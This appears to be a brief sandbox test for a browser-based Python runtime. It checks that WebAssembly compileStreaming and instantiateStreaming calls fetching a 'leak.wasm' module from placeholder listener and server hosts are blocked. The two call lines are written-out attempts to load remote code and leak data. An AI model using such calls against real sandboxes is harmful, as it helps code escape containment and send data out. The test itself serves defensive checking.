# outcome: ok
# with: door
# prints: held: compileStreaming: JsException
# prints: held: instantiateStreaming: JsException
await door("compileStreaming", lambda: js.WebAssembly.compileStreaming(js.fetch("http://{listener}/leak.wasm")))
await door("instantiateStreaming", lambda: js.WebAssembly.instantiateStreaming(js.fetch("http://{server}/runtime/leak.wasm"), obj()))
